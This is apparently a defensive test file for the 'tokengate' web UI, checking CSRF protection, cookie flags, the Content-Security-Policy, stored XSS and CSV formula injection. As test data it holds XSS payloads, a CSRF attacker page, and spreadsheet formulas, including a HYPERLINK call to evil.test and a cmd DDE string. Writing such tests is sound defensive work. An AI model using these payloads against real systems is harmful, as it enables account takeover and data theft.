import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { auditCsvRow } from '../src/audit/export.js';
import type { AuditRecord } from '../src/domain/audit/audit.js';
import { CLI_PRINCIPAL } from '../src/domain/auth/permissions.js';
import { systemContext } from '../src/services/context.js';
import { launchChromium, requireChromium } from './support/browser.js';
import { ADMIN_PASSWORD, basic, call, harness, type Harness } from './support/harness.js';
import { BrowserWatch, ensureWebBuild, settled, WAIT_MS, WEB_INDEX } from './support/ui.js';

/**
 * The web UI under attack: cross-site request forgery, the session cookie's flags, the
 * Content-Security-Policy, stored XSS in token descriptions and user names (in real Chromium), and
 * formula injection in the CSV export.
 */

const cliCtx = systemContext('@cli');
const STEP = { timeout: 120_000 };

/** Stored XSS attempts: each would set window.__pwned and open a dialog if it ever ran. */
const XSS = {
  img: `<img src=x onerror="window.__pwned='img';alert('img')">`,
  script: `"><script>window.__pwned='script';alert('script')</script>`,
  jsUrl: `javascript:window.__pwned='js-url';alert('js-url')`,
  link: `<a href="javascript:alert('link')">click me</a>`,
  svg: `<svg onload="window.__pwned='svg';alert('svg')">`,
  displayName: `"><img src=x onerror="window.__pwned='name';alert('name')">`,
  email: `<img/src=x/onerror=alert('email')>@evil.test`,
};
/** Spreadsheet formulas: each must reach the CSV as text, never as a formula. */
const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1,1)'];

type Session = { cookie: string; csrf: string; setCookie: string };

async function signIn(
  h: Harness,
  username: string,
  password: string,
  headers: Record<string, string> = {},
  remoteAddress?: string,
) {
  const r = await call(h.api, {
    method: 'POST',
    url: '/session',
    body: { username, password },
    headers,
    ...(remoteAddress ? { remoteAddress } : {}),
  });
  const setCookie = String(r.headers['set-cookie'] ?? '');
  return {
    status: r.statusCode,
    setCookie,
    cookie: /tg_session=[^;]*/.exec(setCookie)?.[0] ?? '',
    csrf: (r.data as { csrfToken?: string }).csrfToken ?? '',
  };
}

describe('UI attacks, server side: CSRF, cookie flags, CSP, CSV formulas', () => {
  let h: Harness;
  let admin: Session;
  let tokenId = '';

  before(async () => {
    ensureWebBuild();
    h = await harness();
    await h.ctx.settings.update(CLI_PRINCIPAL, cliCtx, { 'tokens.maxPerUser': 1000 });
    await h.addUser('paula', ['dev'], 'paula-password-1');
    tokenId = (await h.tokenFor('paula', 'read')).id;
    admin = await signIn(h, 'admin', ADMIN_PASSWORD);
  });
  after(() => h.close());

  const tokensOfAdmin = async () =>
    (await h.ctx.store.tokens.search({ user: 'admin' }, Date.now(), 1000)).length;

  it('refuses every state-changing operation made with the session cookie but without its CSRF token', async () => {
    const doc = (await call(h.api, { method: 'GET', url: '/openapi.json' })).data as {
      paths: Record<string, Record<string, unknown>>;
    };
    const writes = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.keys(ops)
        .filter((m) => m !== 'get' && m !== 'head')
        // Sign-in has no session yet; its own guard is the cross-origin check below.
        .filter((m) => !(m === 'post' && path.endsWith('/session')))
        .map((m) => ({ method: m.toUpperCase(), path })),
    );
    assert.ok(writes.length >= 12, `${writes.length} write operations`);
    const before = await tokensOfAdmin();
    for (const { method, path } of writes) {
      const url = path.replace('{id}', tokenId).replace('{user}', 'paula').replace('{logger}', 'auth');
      for (const csrf of [undefined, 'x'.repeat(32), '']) {
        const r = await call(h.api, {
          method,
          url,
          body: method === 'DELETE' ? undefined : {},
          headers: { cookie: admin.cookie, ...(csrf !== undefined ? { 'x-csrf-token': csrf } : {}) },
        });
        assert.equal(r.statusCode, 403, `${method} ${path} with CSRF ${String(csrf)}`);
        assert.match((r.data as { error: { message: string } }).error.message, /X-CSRF-Token/);
      }
    }
    // Nothing happened: paula's token is active, the admin's session still works.
    assert.equal((await h.ctx.store.tokens.findById(tokenId))?.revokedAt, null);
    assert.equal((await h.ctx.store.users.find('paula'))?.disabled, false);
    assert.equal(await tokensOfAdmin(), before);
    const me = await call(h.api, { method: 'GET', url: '/me', headers: { cookie: admin.cookie } });
    assert.equal(me.statusCode, 200);
  });

  it("refuses another session's CSRF token", async () => {
    const paula = await signIn(h, 'paula', 'paula-password-1');
    const r = await call(h.api, {
      method: 'POST',
      url: '/tokens',
      body: { description: 'with a foreign csrf token' },
      headers: { cookie: admin.cookie, 'x-csrf-token': paula.csrf },
    });
    assert.equal(r.statusCode, 403);
  });

  it('refuses a browser write from another origin even with the right CSRF token', async () => {
    const post = (headers: Record<string, string>) =>
      call(h.api, {
        method: 'POST',
        url: '/tokens',
        body: { description: 'cross-origin attempt' },
        headers: { cookie: admin.cookie, 'x-csrf-token': admin.csrf, ...headers },
      });
    const before = await tokensOfAdmin();
    // light-my-request addresses the server as localhost:80.
    for (const headers of <Array<Record<string, string>>>[
      { origin: 'http://evil.test' },
      { origin: 'http://localhost:8080' },
      { origin: 'null' },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      // Sec-Fetch-Site wins over an Origin that looks right.
      { 'sec-fetch-site': 'cross-site', origin: 'http://localhost' },
    ]) {
      const r = await post(headers);
      assert.equal(r.statusCode, 403, JSON.stringify(headers));
      assert.match((r.data as { error: { message: string } }).error.message, /cross-origin request refused/);
    }
    assert.equal(await tokensOfAdmin(), before);
    for (const headers of <Array<Record<string, string>>>[
      { origin: 'http://localhost' },
      { 'sec-fetch-site': 'same-origin', origin: 'http://localhost' },
      { 'sec-fetch-site': 'none' },
      {},
    ]) {
      assert.equal((await post(headers)).statusCode, 201, JSON.stringify(headers));
    }
  });

  it('applies the origin check to sign-in, credentials in Authorization, and session reads', async () => {
    // Login CSRF: another site cannot sign the browser in to an account of its choosing.
    const login = await signIn(h, 'paula', 'paula-password-1', { 'sec-fetch-site': 'cross-site' });
    assert.equal(login.status, 403);
    assert.equal(login.setCookie, '');
    const form = await call(h.api, {
      method: 'POST',
      url: '/session',
      body: 'username=paula&password=paula-password-1',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    assert.equal(form.statusCode, 415, 'a form post is no JSON');
    // A browser that remembers Basic credentials sends them cross-site too.
    const basicAuth = basic('admin', ADMIN_PASSWORD);
    const viaBasic = await call(h.api, {
      method: 'DELETE',
      url: `/admin/tokens/${tokenId}`,
      auth: basicAuth,
      headers: { origin: 'http://evil.test' },
    });
    assert.equal(viaBasic.statusCode, 403);
    assert.equal((await h.ctx.store.tokens.findById(tokenId))?.revokedAt, null);
    // Scripts send no Origin and are not affected.
    const script = await call(h.api, {
      method: 'POST',
      url: '/tokens',
      auth: basicAuth,
      body: { description: 'from a script' },
    });
    assert.equal(script.statusCode, 201);
    // The session answers only its own origin's pages, reads included.
    const exportUrl = '/admin/audit/export?format=csv&category=users';
    const read = (h2: Record<string, string>) =>
      call(h.api, { method: 'GET', url: exportUrl, headers: { cookie: admin.cookie, ...h2 } });
    assert.equal((await read({ 'sec-fetch-site': 'same-site' })).statusCode, 403);
    assert.equal((await read({ 'sec-fetch-site': 'same-origin' })).statusCode, 200);
    assert.equal((await read({ 'sec-fetch-site': 'none' })).statusCode, 200);
  });

  it('believes X-Forwarded-Host for the origin check only from a trusted proxy', async () => {
    await h.ctx.settings.update(CLI_PRINCIPAL, cliCtx, { 'auth.trustedProxies': ['10.9.0.0/16'] });
    try {
      const viaProxy = (remoteAddress: string) =>
        call(h.api, {
          method: 'POST',
          url: '/tokens',
          body: { description: 'behind a proxy' },
          remoteAddress,
          headers: {
            cookie: admin.cookie,
            'x-csrf-token': admin.csrf,
            origin: 'https://tokengate.example.com',
            'x-forwarded-host': 'tokengate.example.com',
            'x-forwarded-for': '198.51.100.20',
          },
        });
      assert.equal((await viaProxy('10.9.0.5')).statusCode, 201);
      assert.equal((await viaProxy('192.0.2.50')).statusCode, 403);
    } finally {
      await h.ctx.settings.update(CLI_PRINCIPAL, cliCtx, { 'auth.trustedProxies': [] });
    }
  });

  it('sets the session cookie HttpOnly, SameSite=Strict, Path=/_tokengate, Secure over https only', async () => {
    const plain = await signIn(h, 'paula', 'paula-password-1');
    assert.match(
      plain.setCookie,
      /^tg_session=[A-Za-z0-9_-]{43}; Path=\/_tokengate; HttpOnly; SameSite=Strict; Max-Age=28800$/,
    );
    const out = await call(h.api, {
      method: 'DELETE',
      url: '/session',
      headers: { cookie: plain.cookie, 'x-csrf-token': plain.csrf },
    });
    assert.equal(
      out.headers['set-cookie'],
      'tg_session=; Path=/_tokengate; HttpOnly; SameSite=Strict; Max-Age=0',
    );
    await h.ctx.settings.update(CLI_PRINCIPAL, cliCtx, { 'auth.trustedProxies': ['10.9.0.0/16'] });
    try {
      const via = async (peer: string, headers: Record<string, string>) =>
        (await signIn(h, 'paula', 'paula-password-1', headers, peer)).setCookie;
      // From a trusted proxy: with or without X-Forwarded-For, any case, the client-facing entry first.
      for (const headers of <Array<Record<string, string>>>[
        { 'x-forwarded-proto': 'https', 'x-forwarded-for': '198.51.100.3' },
        { 'x-forwarded-proto': 'https' },
        { 'x-forwarded-proto': 'HTTPS' },
        { 'x-forwarded-proto': 'https, http' },
      ]) {
        assert.match(
          await via('10.9.1.1', headers),
          /; HttpOnly; SameSite=Strict; .*; Secure$/,
          JSON.stringify(headers),
        );
      }
      assert.doesNotMatch(await via('10.9.1.1', { 'x-forwarded-proto': 'http' }), /Secure/);
      assert.doesNotMatch(await via('10.9.1.1', {}), /Secure/);
      assert.doesNotMatch(
        await via('192.0.2.9', { 'x-forwarded-proto': 'https', 'x-forwarded-for': '198.51.100.3' }),
        /Secure/,
        'an untrusted peer cannot claim https',
      );
    } finally {
      await h.ctx.settings.update(CLI_PRINCIPAL, cliCtx, { 'auth.trustedProxies': [] });
    }
  });

  it('sends a strict CSP on the UI, its files and every kind of API answer', async () => {
    const index = readFileSync(WEB_INDEX, 'utf8');
    // The built page needs nothing the CSP forbids: no inline script, no inline style.
    assert.doesNotMatch(index, /<script(?![^>]*\bsrc=)[^>]*>/);
    assert.doesNotMatch(index, /<style|\sstyle=|\son[a-z]+=/i);
    const asset = /src="(\/_tokengate\/assets\/[^"]+\.js)"/.exec(index)?.[1] ?? '';
    const answers = [
      ['UI page', await call(h.api, { method: 'GET', url: '/_tokengate/' }), 200],
      ['UI script', await call(h.api, { method: 'GET', url: asset }), 200],
      ['API 200', await call(h.api, { method: 'GET', url: '/me', headers: { cookie: admin.cookie } }), 200],
      ['API 401', await call(h.api, { method: 'GET', url: '/me' }), 401],
      [
        'API 403',
        await call(h.api, { method: 'POST', url: '/tokens', headers: { cookie: admin.cookie } }),
        403,
      ],
      [
        'API 404',
        await call(h.api, { method: 'GET', url: '/nope', auth: basic('admin', ADMIN_PASSWORD) }),
        404,
      ],
      ['health', await call(h.api, { method: 'GET', url: '/_tokengate/health' }), 200],
    ] as const;
    for (const [what, r, status] of answers) {
      assert.equal(r.statusCode, status, what);
      const csp = String(r.headers['content-security-policy'] ?? '');
      const directives = new Map(
        csp.split(';').map((d) => {
          const [name = '', ...values] = d.trim().split(/\s+/);
          return [name, values.join(' ')] as const;
        }),
      );
      assert.equal(directives.get('default-src'), "'self'", what);
      assert.equal(directives.get('script-src'), "'self'", `${what}: script-src is only 'self'`);
      assert.equal(directives.get('object-src'), "'none'", what);
      assert.equal(directives.get('frame-ancestors'), "'none'", what);
      assert.equal(directives.get('base-uri'), "'none'", what);
      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|unsafe-hashes|strict-dynamic|\*/, what);
      assert.equal(r.headers['x-content-type-options'], 'nosniff', what);
      assert.equal(r.headers['x-frame-options'], 'DENY', what);
    }
  });

  it('neutralises spreadsheet formulas in the CSV export of stored values', async () => {
    const auth = basic('admin', ADMIN_PASSWORD);
    for (const description of [...FORMULAS, XSS.img]) {
      const r = await call(h.api, {
        method: 'POST',
        url: '/tokens',
        auth,
        body: { description },
        // A caller-chosen request id is stored too, and may start with "-".
        headers: { 'x-request-id': '-2-3' },
      });
      assert.equal(r.statusCode, 201, description);
    }
    const csv = await call(h.api, {
      method: 'GET',
      url: '/admin/audit/export?format=csv&category=tokens',
      auth,
    });
    assert.equal(csv.statusCode, 200);
    assert.match(String(csv.headers['content-type']), /^text\/csv/);
    assert.match(String(csv.headers['content-disposition']), /^attachment;/);
    const cells = csvCells(csv.body);
    const formulaCells = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(formulaCells, [], 'no cell starts like a formula');
    for (const f of FORMULAS) assert.ok(cells.includes(`'${f}`), `"${f}" is exported as text`);
    assert.ok(cells.includes("'-2-3"), 'the request id too');
    assert.ok(cells.includes(XSS.img), 'HTML stays as it is: CSV is not HTML');
    // Tab, CR and LF cannot be in a description (control characters are refused), so check the
    // writer itself for them.
    for (const lead of ['\t=1+1', '\r=1+1', '=1', '+1', '-1', '@1']) {
      const row = auditCsvRow({ ...SAMPLE, tokenDescription: lead, summary: lead });
      assert.ok(!csvCells(row).some((c) => /^[=+\-@\t\r]/.test(c)), JSON.stringify(row));
    }
  });
});

const SAMPLE: AuditRecord = {
  id: 1,
  seq: 1,
  ts: Date.UTC(2027, 0, 1),
  category: 'tokens',
  action: 'token.created',
  summary: 'x',
  author: 'admin',
  affectedUser: null,
  tokenId: null,
  tokenDescription: null,
  sourceIp: null,
  proxyIp: null,
  nodeId: null,
  requestId: null,
  method: null,
  endpoint: null,
  outcome: null,
  details: null,
  prevHash: '',
  hash: '',
};

/** Every cell's text as a spreadsheet would read it (RFC 4180: quotes removed, "" unescaped). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unclosed quote');
        v += text.slice(i, q);
        if (text[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      cells.push(v);
    } else {
      let j = i;
      while (j < text.length && text[j] !== ',' && text[j] !== '\r') j++;
      cells.push(text.slice(i, j));
      i = j;
    }
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) i += 2;
  }
  return cells;
}

// Missing Chromium: skips here with a message, but throws (fails the file) under CI=true.
const chromium = requireChromium();

describe(
  'UI attacks in Chromium: stored XSS, CSP, forged requests',
  { skip: 'skip' in chromium ? chromium.skip : false },
  () => {
    let h: Harness;
    let browser: Browser | undefined;
    let origin = '';
    let evil: Server | undefined;
    let evilPort = 0;
    const contexts: BrowserContext[] = [];
    const MALLORY_PASSWORD = 'mallory-password-1';

    before(async () => {
      if ('skip' in chromium) return;
      ensureWebBuild();
      h = await harness();
      await h.ctx.users.create(CLI_PRINCIPAL, cliCtx, {
        username: 'mallory',
        displayName: XSS.displayName,
        email: XSS.email,
        groups: ['dev'],
        password: MALLORY_PASSWORD,
      });
      const ids: string[] = [];
      for (const description of [XSS.img, XSS.script, XSS.jsUrl, XSS.link, FORMULAS[0] ?? '=1']) {
        ids.push((await h.tokenFor('mallory', 'write', { description, validityDays: 3 })).id);
      }
      ids.push((await h.tokenFor('admin', 'read', { description: XSS.svg, validityDays: 3 })).id);
      // Used, so they show among the most used tokens on the dashboard too.
      await h.ctx.store.tokens.touchLastUsed(
        ids.map((id, n) => ({ id, at: Date.now(), ip: '192.0.2.1', uses: 100 + n })),
      );
      await h.api.listen({ port: 0, host: '127.0.0.1' });
      origin = `http://127.0.0.1:${(h.api.server.address() as AddressInfo).port}`;
      evil = createServer((req, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(attackerPage(origin, req.url ?? ''));
      });
      await new Promise<void>((r) => evil?.listen(0, '127.0.0.1', r));
      evilPort = (evil.address() as AddressInfo).port;
      browser = await launchChromium(chromium.path);
    });
    after(async () => {
      for (const c of contexts) await c.close().catch(() => undefined);
      await browser?.close();
      evil?.closeAllConnections();
      await new Promise<void>((r) => (evil ? evil.close(() => r()) : r()));
      await h?.close();
    });

    const open = async (bypassCSP: boolean) => {
      if (!browser) throw new Error('no browser');
      const context = await browser.newContext({ bypassCSP, viewport: { width: 1280, height: 800 } });
      context.setDefaultTimeout(WAIT_MS);
      contexts.push(context);
      const watch = new BrowserWatch(context, origin);
      watch.expect(401, '/_tokengate/api/v1/session');
      const dialogs: string[] = [];
      context.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      return { context, page: await context.newPage(), watch, dialogs };
    };

    const signInUi = async (page: Page, username: string, password: string) => {
      await page.goto(`${origin}/_tokengate/`);
      await page.getByLabel('User name').fill(username);
      await page.getByLabel('Password').fill(password);
      await page.getByTestId('signin-submit').click();
      await page.getByTestId('current-user').waitFor({ state: 'attached' });
      await settled(page);
    };

    /** What ran or got injected: on* attributes, javascript: links, inline scripts, the img payload. */
    const INSPECT = `(() => {
    const bad = [];
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (a.name.startsWith('on')) bad.push(el.tagName + '[' + a.name + ']');
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(a.name) && /^\\s*javascript:/i.test(a.value)) bad.push(el.tagName + '[' + a.name + '=javascript:]');
      }
    }
    for (const s of document.querySelectorAll('script')) if (!s.src) bad.push('inline script');
    for (const e of document.querySelectorAll('img[src="x"], iframe, object, embed')) bad.push(e.tagName);
    return { bad, pwned: window.__pwned ?? null, text: document.body.innerText };
  })()`;

    const visit = async (page: Page, hash: string, expectText: string[], dialogs: string[]) => {
      await page.goto(`${origin}/_tokengate/${hash}`);
      await inspect(page, hash, expectText, dialogs);
    };

    const inspect = async (page: Page, hash: string, expectText: string[], dialogs: string[]) => {
      await settled(page);
      // Wait for the texts to render; after the first one that does not, do not wait for the rest.
      let waitMs = WAIT_MS;
      for (const t of expectText) {
        const shown = await page
          .getByText(t, { exact: false })
          .first()
          .waitFor({ timeout: waitMs })
          .then(() => true)
          .catch(() => false);
        if (!shown) waitMs = 1;
      }
      const seen = await page.evaluate<{ bad: string[]; pwned: string | null; text: string }>(INSPECT);
      assert.deepEqual(seen.bad, [], `${hash}: injected markup`);
      assert.equal(seen.pwned, null, `${hash}: a payload ran`);
      assert.deepEqual(dialogs, [], `${hash}: a dialog opened`);
      for (const t of expectText) assert.ok(seen.text.includes(t), `${hash} shows ${t} literally`);
    };

    for (const bypassCSP of [true, false]) {
      it(
        `renders stored XSS inert ${bypassCSP ? 'by escaping alone (CSP bypassed)' : 'under the CSP'}`,
        STEP,
        async () => {
          const a = await open(bypassCSP);
          await signInUi(a.page, 'admin', ADMIN_PASSWORD);
          const mallorysTokens = [XSS.img, XSS.script, XSS.jsUrl, XSS.link];
          await visit(a.page, '#/dashboard', [XSS.svg], a.dialogs);
          await visit(a.page, '#/tokens', [XSS.svg], a.dialogs);
          await visit(a.page, '#/manager', mallorysTokens, a.dialogs);
          await visit(a.page, '#/admin/users', [XSS.displayName, XSS.email], a.dialogs);
          await visit(a.page, '#/audit', mallorysTokens, a.dialogs);
          const row = a.page.getByTestId('audit-row').filter({ hasText: XSS.img }).first();
          await row.getByTestId('audit-row-toggle').click();
          await a.page.getByTestId('audit-details').waitFor();
          await inspect(a.page, '#/audit (details)', [XSS.img], a.dialogs);
          // The UI's own CSV download (a same-origin navigation with the session): formulas are text.
          const [download] = await Promise.all([
            a.page.waitForEvent('download'),
            a.page.getByTestId('audit-export-csv').click(),
          ]);
          const csv = readFileSync(await download.path(), 'utf8');
          const cells = csvCells(csv);
          assert.ok(cells.includes(`'${FORMULAS[0] ?? ''}`), 'the formula description is exported as text');
          assert.ok(cells.includes(XSS.img));
          assert.deepEqual(
            cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
            [],
          );

          // Mallory herself: her name in the top bar, her tokens, and the revoke dialog that names one.
          const m = await open(bypassCSP);
          await signInUi(m.page, 'mallory', MALLORY_PASSWORD);
          await visit(m.page, '#/dashboard', [XSS.displayName], m.dialogs);
          await visit(m.page, '#/tokens', mallorysTokens, m.dialogs);
          const tokenRow = m.page.getByTestId('token-row').filter({ hasText: XSS.script }).first();
          await tokenRow.getByTestId('token-revoke').click();
          await m.page.getByTestId('revoke-dialog').waitFor();
          await inspect(m.page, '#/tokens (revoke dialog)', [XSS.script], m.dialogs);
          assert.deepEqual([...a.watch.problems, ...m.watch.problems], []);
        },
      );
    }

    it('blocks script that does get into the page: the CSP is the second layer', STEP, async () => {
      if (!browser) throw new Error('no browser');
      const context = await browser.newContext();
      contexts.push(context);
      const page = await context.newPage();
      await page.goto(`${origin}/_tokengate/`);
      await page.getByTestId('signin-submit').waitFor();
      // Stand-ins for a rendering bug: markup with an inline handler, and an inline script element.
      const result = await page.evaluate<{ pwned: unknown; violations: string[] }>(`(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__pwned=1" onload="window.__pwned=2">');
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 3';
      document.body.append(s);
      await new Promise((r) => setTimeout(r, 500));
      return { pwned: window.__pwned ?? null, violations };
    })()`);
      assert.equal(result.pwned, null);
      assert.ok(result.violations.length >= 2, result.violations.join());
      assert.ok(
        result.violations.every((v) => v.startsWith('script-src')),
        result.violations.join(),
      );
    });

    for (const [kind, host] of [
      ['same-site (another port)', '127.0.0.1'],
      ['cross-site', 'localhost'],
    ] as const) {
      it(`refuses forged requests from a ${kind} page while the admin is signed in`, STEP, async () => {
        if (!browser) throw new Error('no browser');
        const context = await browser.newContext();
        contexts.push(context);
        const page = await context.newPage();
        await signInUi(page, 'admin', ADMIN_PASSWORD);
        const before = (await h.ctx.store.tokens.search({ user: 'admin' }, Date.now(), 1000)).length;
        // What reached the server, seen from the server: preflights and blocked responses included.
        const hits: Array<{ method: string; status: number; cookie: boolean; site: string }> = [];
        const server = h.api.server;
        const observe = (req: IncomingMessage, res: ServerResponse): void => {
          if (!req.url?.startsWith('/_tokengate/api/v1/tokens')) return;
          res.on('finish', () =>
            hits.push({
              method: req.method ?? '',
              status: res.statusCode,
              cookie: req.headers.cookie !== undefined,
              site: String(req.headers['sec-fetch-site']),
            }),
          );
        };
        server.on('request', observe);
        try {
          const attacker = await context.newPage();
          await attacker.goto(`http://${host}:${evilPort}/attack`);
          // The page posts its form last, which navigates to tokengate's answer.
          await attacker.waitForURL(`${origin}/_tokengate/api/v1/tokens`, { timeout: WAIT_MS });
          await attacker.waitForLoadState('load');
          const body = await attacker.locator('body').innerText();
          assert.match(body, /cross-origin request refused/);
        } finally {
          server.off('request', observe);
        }
        const after = (await h.ctx.store.tokens.search({ user: 'admin' }, Date.now(), 1000)).length;
        assert.equal(after, before, 'no token was created');
        const sameSite = host === '127.0.0.1';
        const site = sameSite ? 'same-site' : 'cross-site';
        const order = (a: (typeof hits)[number], b: (typeof hits)[number]) =>
          JSON.stringify(a).localeCompare(JSON.stringify(b));
        assert.deepEqual(
          hits.sort(order),
          [
            // fetch, mode no-cors, text/plain: sent, refused.
            { method: 'POST', status: 403, cookie: sameSite, site },
            // fetch with application/json: the preflight (never with cookies) fails; the POST is not sent.
            { method: 'OPTIONS', status: 401, cookie: false, site },
            // The form post: refused.
            { method: 'POST', status: 403, cookie: sameSite, site },
          ].sort(order),
        );
        // The signed-in tab is unharmed.
        assert.equal(
          await page.evaluate<number>(`fetch('/_tokengate/api/v1/me').then((r) => r.status)`),
          200,
        );
      });
    }
  },
);

/** A page on another origin that tries to create a token in tokengate with the visitor's session. */
function attackerPage(target: string, path: string): string {
  if (path !== '/attack') return '<!doctype html><title>nothing</title>';
  const api = `${target}/_tokengate/api/v1/tokens`;
  return `<!doctype html><title>cute cats</title>
<form id="f" method="POST" action="${api}" enctype="text/plain">
  <input name='{"description":"csrf-form","pad":"' value='"}'>
</form>
<script>
  const body = JSON.stringify({ description: 'csrf-fetch' });
  (async () => {
    await fetch(${JSON.stringify(api)}, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body }).catch(() => {});
    await fetch(${JSON.stringify(api)}, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body }).catch(() => {});
    document.getElementById('f').submit();
  })();
</script>`;
}
